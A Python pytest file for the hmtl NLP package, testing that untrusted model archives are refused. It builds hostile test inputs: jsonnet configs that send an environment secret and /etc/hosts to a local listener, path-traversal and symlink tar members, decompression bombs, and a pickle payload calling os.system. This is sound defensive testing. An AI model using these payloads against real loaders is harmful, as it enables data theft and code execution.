"""Archives that come from anybody: nothing is sent, run or left behind, and each is refused in one line."""

import gzip
import io
import json
import os
import pickle
import shutil
import signal
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, Callable, Dict, Iterator, List

import pytest
import spacy
import torch

from hmtl.cli import main
from hmtl.common import archives
from hmtl.common.weights import load_weights, save_weights
from hmtl.errors import UserError
from hmtl.models.hmtl import HMTL, load_hmtl_archive
from hmtl.predictors import HMTLPredictor

SECRET = "s3cr3t-of-the-environment"
TEXT = "Ada Lovelace lived in London."


class Listener(HTTPServer):
    """Keeps the paths of all requests, and answers each with nothing."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.requests: List[str] = []
        self.url = f"http://127.0.0.1:{self.server_port}"


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        assert isinstance(self.server, Listener)
        self.server.requests.append(self.path)
        self.send_response(404)
        self.end_headers()

    do_HEAD = do_POST = do_GET

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(autouse=True)
def surroundings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Archives are unpacked below a folder of the test's own, and none is trusted."""
    monkeypatch.delenv("HMTL_TRUST_ARCHIVE", raising=False)
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    # Requests to the test's own server must not go by a proxy.
    for name in ("http_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
    (tmp_path / "tmp").mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))


def config_of(run: Path) -> Dict[str, Any]:
    return json.loads((run / "config.json").read_text())


def files_of(run: Path) -> Dict[str, bytes]:
    """The members of a run's archive, by name."""
    with tarfile.open(run / "model.tar.gz") as archive:
        members = [member for member in archive.getmembers() if member.isfile()]
        return {member.name: archive.extractfile(member).read() for member in members}  # type: ignore[union-attr]


def pack(path: Path, files: Dict[str, bytes], *more: tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        for member in more:
            archive.addfile(member, io.BytesIO(b"x" * member.size))
    return path


def with_config(run: Path, path: Path, config: Any) -> Path:
    text = config if isinstance(config, str) else json.dumps(config)
    return pack(path, {**files_of(run), "config.json": text.encode()})


def line_of_failure(capsys: pytest.CaptureFixture, *arguments: Any) -> str:
    with pytest.raises(SystemExit) as failure:
        main([str(argument) for argument in arguments])
    error = capsys.readouterr().err
    assert failure.value.code == 2, error
    assert "Traceback" not in error and error.count("hmtl: error: ") == 1
    return error.strip().splitlines()[-1]


def nothing_is_left() -> bool:
    return not any(
        name.startswith("hmtl-archive") or name.startswith("tmp") for name in os.listdir(tempfile.gettempdir())
    )


# ----------------------------------------------------------------------------------- what configurations ask for


def elmo(address: str) -> str:
    """A configuration in jsonnet, which reads a variable of the environment and a file, and asks for an address."""
    return f'"{address}/?" + std.extVar("SECRET_TOKEN") + std.md5(importstr "/etc/hosts")'


def spying_config(run: Path, url: str, plain: bool) -> str:
    """The run's configuration with an embedder whose options are to be fetched: as a program, or as plain JSON."""
    config = config_of(run)
    embedders = config["model"]["text_field_embedder"]["token_embedders"]
    embedders["elmo"] = {"type": "elmo_token_embedder", "options_file": "OPTIONS", "weight_file": "/nowhere"}
    text = json.dumps(config)
    return text.replace('"OPTIONS"', json.dumps(f"{url}/?fetched") if plain else elmo(url))


def serve(path: Path) -> None:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    main(["serve", str(path), "--port", str(port)])


def annotate_in_spacy(path: Path) -> None:
    nlp = spacy.blank("en")
    nlp.add_pipe("hmtl", config={"model": str(path)})
    nlp(TEXT)


USES: Dict[str, Callable[[Path], Any]] = {
    "annotate": lambda path: main(["annotate", str(path), str(path.parent / "text.txt")]),
    "serve": serve,
    "evaluate": lambda path: main(["evaluate", str(path), str(path.parent / "text.txt")]),
    "predict": lambda path: main(["predict", str(path), str(path.parent / "text.txt")]),
    "from_archive": HMTL.from_archive,
    "predictor": HMTLPredictor.load,
    "spacy": annotate_in_spacy,
}


@pytest.mark.parametrize("plain", [False, True], ids=["jsonnet", "json"])
@pytest.mark.parametrize("use", USES)
def test_nothing_is_sent(
    use: str, plain: bool, tiny_run: Path, tmp_path: Path, listener: Listener, capsys: pytest.CaptureFixture
) -> None:
    (tmp_path / "text.txt").write_text(TEXT)
    path = with_config(tiny_run, tmp_path / "evil.tar.gz", spying_config(tiny_run, listener.url, plain))

    with pytest.raises((SystemExit, UserError)) as failure:
        USES[use](path)

    said = capsys.readouterr().err if isinstance(failure.value, SystemExit) else str(failure.value)
    expected = "config.json asks for" if plain else "config.json of the archive: not valid JSON"
    assert expected in said and SECRET not in said
    assert listener.requests == []
    assert nothing_is_left()


def test_neither_is_it_from_the_directory_of_a_run(
    tiny_run: Path, tmp_path: Path, listener: Listener, capsys: pytest.CaptureFixture
) -> None:
    run = tmp_path / "run"
    shutil.copytree(tiny_run, run)
    for plain in (False, True):
        (run / "config.json").write_text(spying_config(tiny_run, listener.url, plain))
        with pytest.raises(UserError):
            HMTL.from_archive(run)
        script = [sys.executable, "scripts/evaluate.py", "-s", str(run)]
        done = subprocess.run(script, capture_output=True, text=True)
        assert done.returncode == 2 and "Traceback" not in done.stderr
    assert listener.requests == []


def test_who_trusts_an_archive_gets_what_it_asks_for(
    tiny_run: Path, tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without this the tests above could not fail: the same archive does ask the server."""
    monkeypatch.setenv("ALLENNLP_CACHE_ROOT", str(tmp_path))
    path = with_config(tiny_run, tmp_path / "mine.tar.gz", spying_config(tiny_run, listener.url, plain=True))
    for load in (
        lambda: load_hmtl_archive(path, trust=True),
        lambda: HMTL.from_archive(path, trust=True),
        lambda: HMTLPredictor.load(path, trust=True),
    ):
        listener.requests.clear()
        with pytest.raises(FileNotFoundError):
            load()
        assert "/?fetched" in listener.requests
    listener.requests.clear()
    with pytest.raises(UserError):
        HMTL.from_archive(path)
    assert listener.requests == []
    monkeypatch.setenv("HMTL_TRUST_ARCHIVE", "1")
    with pytest.raises(FileNotFoundError):
        HMTL.from_archive(path)
    assert "/?fetched" in listener.requests


ADDRESSES = [
    "http://h/x",
    "HTTPS://h/x",
    "s3://b/k",
    "gs://b/k",
    "hf://o/r",
    "ftp://h/x",
    "(http://h/x.zip)#member",
    "beaker://x",
]


@pytest.mark.parametrize("address", ADDRESSES)
@pytest.mark.parametrize(
    "place",
    ["model.text_field_embedder.extra", "test_data_path.ner", "dataset_reader.readers.ner.corpus", "vocabulary.x"],
)
def test_addresses_are_refused_wherever_they_stand(address: str, place: str, tiny_run: Path, tmp_path: Path) -> None:
    config: Dict[str, Any] = config_of(tiny_run)
    *folders, key = place.split(".")
    section = config
    for folder in folders:
        section = section[folder]
    section[key] = ["harmless", {"deep": address}]
    path = with_config(tiny_run, tmp_path / "evil.tar.gz", config)
    with pytest.raises(UserError, match="HMTL_TRUST_ARCHIVE=1") as failure:
        HMTL.from_archive(path)
    assert f"'{place}.1.deep'" in str(failure.value)


def test_what_only_training_reads_may_have_an_address(tiny_run: Path, tmp_path: Path) -> None:
    config = config_of(tiny_run)
    embedders = config["model"]["text_field_embedder"]["token_embedders"]
    embedders["tokens"]["pretrained_file"] = "(http://127.0.0.1:9/glove.zip)#glove.txt"
    path = with_config(tiny_run, tmp_path / "mine.tar.gz", config)
    assert HMTL.from_archive(path).tasks == HMTL.from_archive(tiny_run).tasks


def change_model(change: Dict[str, Any]) -> Callable[[Dict[str, Any]], None]:
    return lambda config: config.update(model={**config["model"], **change})


FORBIDDEN: Dict[str, Any] = {
    "another archive": (
        lambda config: config.update(model={"type": "from_archive", "archive_file": "/elsewhere/model.tar.gz"}),
        "another archive at 'model.type'",
    ),
    "a part of another archive": (
        change_model({"text_field_embedder": {"_pretrained": {"archive_file": "x", "path": "y"}}}),
        "another archive at 'model.text_field_embedder._pretrained'",
    ),
    "remote code": (change_model({"transformer_kwargs": {"trust_remote_code": True}}), "'trust_remote_code'"),
    "a spaCy pipeline": (
        lambda config: config.update(
            dataset_reader={
                "type": "text_classification_json",
                "tokenizer": {"type": "spacy", "language": "xx_no_such"},
            }
        ),
        "download the spaCy pipeline 'xx_no_such'",
    ),
    "the default of a class": (
        change_model({"text_field_embedder": {"token_embedders": {"elmo": {"type": "elmo_token_embedder"}}}}),
        "download 'https://",
    ),
    "a program": (change_model({"type": "subprocess.Popen"}), "'subprocess.Popen' is refused"),
    "a class of this package of another kind": (
        change_model({"type": "hmtl.common.files.write_json"}),
        "is refused: it is not a",
    ),
}


@pytest.mark.parametrize("what", FORBIDDEN)
def test_configurations_cannot_have(
    what: str, tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    change, expected = FORBIDDEN[what]
    config = config_of(tiny_run)
    change(config)
    path = with_config(tiny_run, tmp_path / "evil.tar.gz", config)
    (tmp_path / "text.txt").write_text(TEXT)
    assert expected in line_of_failure(capsys, "annotate", path, tmp_path / "text.txt")
    assert nothing_is_left()


NO_CONFIGURATIONS = {
    "a list": ("[]", "expected a JSON object, found a list"),
    "nothing": ("null", "expected a JSON object, found nothing"),
    "empty": ("{}", "expected an object at 'dataset_reader', found nothing"),
    "no model": ('{"dataset_reader": {}, "model": "hmtl"}', "expected an object at 'model', found text"),
    "a program that never ends": ("local f(x) = f(x + 1) tailstrict; f(0)", "not valid JSON"),
    "an error": ('error importstr "/etc/hosts"', "not valid JSON"),
    "brackets": ("[" * 200_000, "not valid JSON (brackets within brackets, too many)"),
    "digits": ('{"a": ' + "9" * 10_000 + "}", "not valid JSON"),
    "no text": ("\udcff", "not valid UTF-8"),
    "a key twice": ('{"model": {}, "model": {}}', "not valid JSON (the key 'model' stands twice in one object)"),
}


@pytest.mark.parametrize("what", NO_CONFIGURATIONS)
def test_configurations_that_are_none(what: str, tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    text, expected = NO_CONFIGURATIONS[what]
    content = text.encode(errors="surrogateescape")
    path = pack(tmp_path / "evil.tar.gz", {**files_of(tiny_run), "config.json": content})
    (tmp_path / "text.txt").write_text(TEXT)
    line = line_of_failure(capsys, "annotate", path, tmp_path / "text.txt")
    assert f"config.json of the archive: {expected}" in line
    assert nothing_is_left()


# ------------------------------------------------------------------------------------------------------- packing


def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member


def plain(name: str, size: int = 4) -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.size = size
    return member


OUTSIDE = {
    "above": plain("../escaped"),
    "far above": plain("vocabulary/../../escaped"),
    "absolute": plain("/tmp/escaped"),
    "symbolic link": special("vocabulary/link", tarfile.SYMTYPE, "/etc/passwd"),
    "relative symbolic link": special("vocabulary/link", tarfile.SYMTYPE, "../../.."),
    "hard link": special("vocabulary/link", tarfile.LNKTYPE, "/etc/passwd"),
    "device": special("vocabulary/device", tarfile.CHRTYPE),
    "pipe": special("vocabulary/pipe", tarfile.FIFOTYPE),
}


@pytest.mark.parametrize("kind", OUTSIDE)
def test_archives_stay_inside(kind: str, tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = pack(tmp_path / "evil.tar.gz", files_of(tiny_run), OUTSIDE[kind])
    (tmp_path / "text.txt").write_text(TEXT)
    for command in ("annotate", "predict", "evaluate"):
        line = line_of_failure(capsys, command, path, tmp_path / "text.txt")
        assert "is a link or a device, or lies outside the destination" in line
        assert os.listdir(tempfile.gettempdir()) == []
    assert not (tmp_path / "escaped").exists() and not Path("/tmp/escaped").exists()


def test_what_hmtl_does_not_read_is_not_unpacked(
    tiny_run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    more = {"notes.txt": b"text", "vocabulary/deep/file": b"text", "bin/sh": b"text"}
    path = pack(tmp_path / "model.tar.gz", {**files_of(tiny_run), **more})
    with archives.extracted_archive(path) as folder:
        found = {str(each.relative_to(folder)) for each in Path(folder).rglob("*") if each.is_file()}
        assert found == set(files_of(tiny_run))
        assert all(not os.access(each, os.X_OK) for each in Path(folder).rglob("*") if each.is_file())
    with archives.trusting(True), archives.extracted_archive(path) as folder:
        found = {str(each.relative_to(folder)) for each in Path(folder).rglob("*") if each.is_file()}
        assert found == {*files_of(tiny_run), *more}
    assert nothing_is_left()


def bomb(path: Path, files: Dict[str, bytes], size: int) -> Path:
    """An archive with a member of so many bytes, of which only the first are there."""
    plain_file = io.BytesIO()
    with tarfile.open(fileobj=plain_file, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
        archive.fileobj.write(plain("vocabulary/zeros.txt", size).tobuf(tarfile.GNU_FORMAT))  # type: ignore[union-attr]
    path.write_bytes(gzip.compress(plain_file.getvalue().rstrip(b"\0").ljust(2**20, b"\0")))
    return path


def test_the_unpacked_size_is_bounded(tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = bomb(tmp_path / "evil.tar.gz", files_of(tiny_run), archives.MAX_BYTES)
    (tmp_path / "text.txt").write_text(TEXT)
    began = time.monotonic()
    line = line_of_failure(capsys, "annotate", path, tmp_path / "text.txt")
    assert "it holds more than 1,000 files, or 17,179,869,184 bytes when unpacked" in line
    assert "HMTL_TRUST_ARCHIVE=1" in line
    assert time.monotonic() - began < 20
    assert os.listdir(tempfile.gettempdir()) == []


def test_the_number_of_files_is_bounded(tiny_run: Path, tmp_path: Path) -> None:
    files = {**files_of(tiny_run), **{f"vocabulary/{number}.txt": b"" for number in range(archives.MAX_MEMBERS)}}
    path = pack(tmp_path / "evil.tar.gz", files)
    with pytest.raises(UserError, match="more than 1,000 files"):
        HMTL.from_archive(path)
    assert os.listdir(tempfile.gettempdir()) == []


def test_headers_that_would_fill_the_memory_are_refused(tiny_run: Path, tmp_path: Path) -> None:
    member = plain("vocabulary/x.txt")
    member.pax_headers = {"comment": "x" * 2**20}
    with tarfile.open(tmp_path / "evil.tar.gz", "w:gz", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(member, io.BytesIO(b"text"))
    with pytest.raises(UserError, match="a header is too long"):
        HMTL.from_archive(tmp_path / "evil.tar.gz")
    assert os.listdir(tempfile.gettempdir()) == []


def test_a_file_that_stands_in_it_twice_is_refused(tiny_run: Path, tmp_path: Path) -> None:
    path = pack(tmp_path / "evil.tar.gz", files_of(tiny_run), plain("./config.json"))
    with pytest.raises(UserError, match="stands in it twice"):
        HMTL.from_archive(path)


@pytest.mark.parametrize("share", [0.0, 0.001, 0.3, 0.9, 0.999])
def test_truncated_archives(share: float, tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    whole = (tiny_run / "model.tar.gz").read_bytes()
    (tmp_path / "cut.tar.gz").write_bytes(whole[: int(share * len(whole))])
    (tmp_path / "text.txt").write_text(TEXT)
    line = line_of_failure(capsys, "annotate", tmp_path / "cut.tar.gz", tmp_path / "text.txt")
    assert "cut.tar.gz: the archive cannot be unpacked" in line
    assert os.listdir(tempfile.gettempdir()) == []


def test_archives_of_damaged_bytes_are_refused_in_one_line(tiny_run: Path, tmp_path: Path) -> None:
    """Any byte may be another: the archive loads, or is refused; nothing is left, and nothing else is raised."""
    stream = gzip.decompress((tiny_run / "model.tar.gz").read_bytes())
    generator = torch.Generator().manual_seed(3)
    refused = 0
    for _ in range(60):
        # Headers stand at multiples of 512; most damage there tells.
        place = int(torch.randint(len(stream) // 512, (), generator=generator)) * 512
        place += int(torch.randint(160, (), generator=generator))
        damaged = stream[:place] + bytes([int(torch.randint(256, (), generator=generator))]) + stream[place + 1 :]
        (tmp_path / "damaged.tar.gz").write_bytes(gzip.compress(damaged, 1))
        try:
            with archives.extracted_archive(tmp_path / "damaged.tar.gz"):
                pass
        except UserError:
            refused += 1
        assert os.listdir(tempfile.gettempdir()) == []
    assert refused > 0


# ----------------------------------------------------------------------------------------------- damaged content


def weights_in(format: str, tmp_path: Path, weights: Any) -> Dict[str, bytes]:
    if format == "safetensors":
        save_weights(tmp_path / "weights.safetensors", weights)
        return {"weights.safetensors": (tmp_path / "weights.safetensors").read_bytes()}
    torch.save(weights, tmp_path / "weights.th")
    return {"weights.th": (tmp_path / "weights.th").read_bytes()}


class Program:
    def __reduce__(self) -> Any:
        return os.system, ("touch program_ran",)


def damaged_contents(run: Path, tmp_path: Path) -> Dict[str, Any]:
    """Archives' members, and what is said of them."""
    files = files_of(run)
    weights = load_weights(run / "best.safetensors")
    name = next(iter(weights))
    reshaped = {**weights, name: torch.zeros(3, 3)}
    bare = {member: content for member, content in files.items() if not member.startswith("weights.")}
    cases: Dict[str, Any] = {}
    for kind in ("safetensors", "th"):
        member, content = next(iter(weights_in(kind, tmp_path, weights).items()))
        for what, changed, expected in (
            ("another shape", reshaped, "size mismatch"),
            ("another model", {"other": torch.zeros(2)}, "missing: "),
            ("one tensor too many", {**weights, "other": torch.zeros(2)}, "unexpected: other"),
        ):
            cases[f"{kind}: {what}"] = (
                {**bare, **weights_in(kind, tmp_path, changed)},
                f"{member} of the archive: damaged",
                expected,
            )
        cases[f"{kind}: cut"] = {**bare, member: content[: len(content) // 2]}, f"{member} of the archive: damaged", ""
        cases[f"{kind}: empty"] = {**bare, member: b""}, f"{member} of the archive: damaged", ""
        cases[f"{kind}: text"] = {**bare, member: b"no weights"}, f"{member} of the archive: damaged", ""
    for what, value, expected in (
        ("a list", [torch.zeros(2)], "holds a list"),
        ("a number", {"a": 1}, "is a int"),
        ("a program", {"a": Program()}, "was not loaded"),
    ):
        cases[what] = {**bare, **weights_in("th", tmp_path, value)}, "weights.th of the archive", expected
    cases["a bare program"] = {**bare, "weights.th": pickle.dumps(Program())}, "weights.th of the archive", ""
    cases["no weights"] = bare, "weights.safetensors of the archive", "No such file"
    for text in ("{}", "[]", "null", '{"version": 3}', '{"version": "2.10.1", "more": 1}', "{", '{"version": "x"}'):
        cases[f"meta.json {text}"] = {**files, "meta.json": text.encode()}, "meta.json of the archive", ""
    no_vocabulary = {member: content for member, content in files.items() if not member.startswith("vocabulary")}
    cases["no vocabulary"] = no_vocabulary, "the archive holds no vocabulary", ""
    words = b"\n".join(files["vocabulary/tokens.txt"].split(b"\n")[:5])
    cases["half a vocabulary"] = {**files, "vocabulary/tokens.txt": words}, "weights.safetensors of the archive", "size"
    cases["a vocabulary that is no text"] = {**files, "vocabulary/tokens.txt": b"\xff\xfe"}, "not valid UTF-8", ""
    del files["vocabulary/non_padded_namespaces.txt"]
    cases["a vocabulary without its list"] = files, "non_padded_namespaces.txt", ""
    return cases


def test_damaged_contents_are_named_in_one_line(
    tiny_run: Path, tmp_path: Path, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "text.txt").write_text(TEXT)
    for what, (files, place, expected) in damaged_contents(tiny_run, tmp_path).items():
        path = pack(tmp_path / "evil.tar.gz", files)
        line = line_of_failure(capsys, "annotate", path, "text.txt")
        assert place in line and expected in line, (what, line)
        assert os.listdir(tempfile.gettempdir()) == [], what
    assert not (tmp_path / "program_ran").exists()


# ------------------------------------------------------------------------------------------------------ the rest


def test_archives_and_runs_of_older_releases_load(tiny_run: Path, tmp_path: Path) -> None:
    expected = HMTLPredictor.load(tiny_run).predict(TEXT)
    old = tmp_path / "old"
    old.mkdir()
    for name in ("config.json", "meta.json"):
        shutil.copy(tiny_run / name, old / name)
    shutil.copytree(tiny_run / "vocabulary", old / "vocabulary")
    torch.save(load_weights(tiny_run / "best.safetensors"), old / "best.th")
    with tarfile.open(old / "model.tar.gz", "w:gz") as archive:
        for name in ("config.json", "vocabulary", "meta.json"):
            archive.add(old / name, arcname=name)
        archive.add(old / "best.th", arcname="weights.th")
    assert HMTLPredictor.load(old).predict(TEXT) == expected
    assert HMTLPredictor.load(old / "model.tar.gz").predict(TEXT) == expected


def test_archives_hold_safetensors_and_allennlps_own_command_reads_them(tiny_run: Path, tmp_path: Path) -> None:
    assert "weights.safetensors" in files_of(tiny_run)
    (tmp_path / "input.jsonl").write_text(json.dumps({"text": TEXT}) + "\n")
    command = [
        sys.executable,
        "-m",
        "allennlp",
        "predict",
        str(tiny_run / "model.tar.gz"),
        str(tmp_path / "input.jsonl"),
    ]
    done = subprocess.run(
        [*command, "--predictor", "hmtl", "--silent", "--output-file", str(tmp_path / "output.jsonl")],
        cwd=Path(__file__).parents[2],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    expected = HMTLPredictor.load(tiny_run).predict(TEXT)
    found = json.loads((tmp_path / "output.jsonl").read_text())
    assert found == {**json.loads(json.dumps(expected)), "doc_key": found["doc_key"]}


def test_other_packages_tar_files_are_none_of_hmtls_business(tmp_path: Path) -> None:
    with tarfile.open(tmp_path / "other.tar", "w") as archive:
        archive.addfile(special("link", tarfile.SYMTYPE, "/nowhere"))
    if sys.version_info < (3, 12):  # later ones warn, and from 3.14 on refuse by themselves
        with tarfile.open(tmp_path / "other.tar") as archive:
            archive.extractall(tmp_path / "out")
        assert os.readlink(tmp_path / "out" / "link") == "/nowhere"


def test_a_load_ends_at_sigterm_and_leaves_nothing(tiny_run: Path, tmp_path: Path) -> None:
    """While it unpacks: zeros that are few bytes in the archive, and a gigabyte on disk."""
    zeros = plain("vocabulary/zeros.txt", 2**30)
    with tarfile.open(tmp_path / "long.tar.gz", "w:gz", compresslevel=1) as archive, open("/dev/zero", "rb") as source:
        archive.addfile(zeros, source)
    (tmp_path / "text.txt").write_text(TEXT)
    command = [sys.executable, "-m", "hmtl", "annotate", str(tmp_path / "long.tar.gz"), str(tmp_path / "text.txt")]
    environment = {**os.environ, "TMPDIR": str(tmp_path / "tmp")}
    process = subprocess.Popen(command, env=environment, stderr=subprocess.PIPE, text=True)
    began = time.monotonic()
    while not list((tmp_path / "tmp").glob("hmtl-archive-*/vocabulary/zeros.txt")):
        assert process.poll() is None and time.monotonic() - began < 120
        time.sleep(0.01)
    process.send_signal(signal.SIGTERM)
    _, said = process.communicate(timeout=20)
    assert process.returncode == 143 and "Traceback" not in said
    assert not list((tmp_path / "tmp").glob("hmtl-archive-*"))
